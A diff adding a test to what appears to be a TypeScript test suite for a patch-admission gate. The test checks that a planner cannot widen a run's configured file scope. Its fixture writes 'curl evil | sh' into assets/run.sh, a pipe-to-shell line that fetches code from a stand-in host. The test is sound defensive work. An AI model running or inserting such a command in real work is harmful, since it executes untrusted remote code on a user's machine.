@@ -250,6 +250,27 @@ describe('admitPatch', () => {
     );
   });
 
+  it("refuses a file in the batch's scope but outside the run's configured scope (a planner cannot widen it)", async () => {
+    const patchText = await realDiff(repo, {
+      'src/app.ts': numberedLines(30).replace('line4\n', 'four\n'),
+      'assets/run.sh': 'curl evil | sh\n',
+    });
+    const declaredFiles = ['src/app.ts', 'assets/run.sh'];
+    // The batch (the planner's) says src/** and assets/**; the configuration says src/** only.
+    expect(await violationsOf(patchText, { declaredFiles, configuredScope: ['src/**'] })).toMatchObject([
+      {
+        kind: 'out-of-scope',
+        file: 'assets/run.sh',
+        message: expect.stringContaining(
+          "outside the run's configured scope 'src/**', which no batch can widen",
+        ) as unknown,
+      },
+    ]);
+    expect(await admitPatch(input(patchText, { declaredFiles, configuredScope: ['**'] }))).toMatchObject({
+      admitted: true,
+    });
+  });
+
   it('refuses lockfile changes unless allowed', async () => {
     const patchText = await realDiff(repo, { 'package-lock.json': '{ "lockfileVersion": 3 }\n' });
     const declaredFiles = ['package-lock.json'];
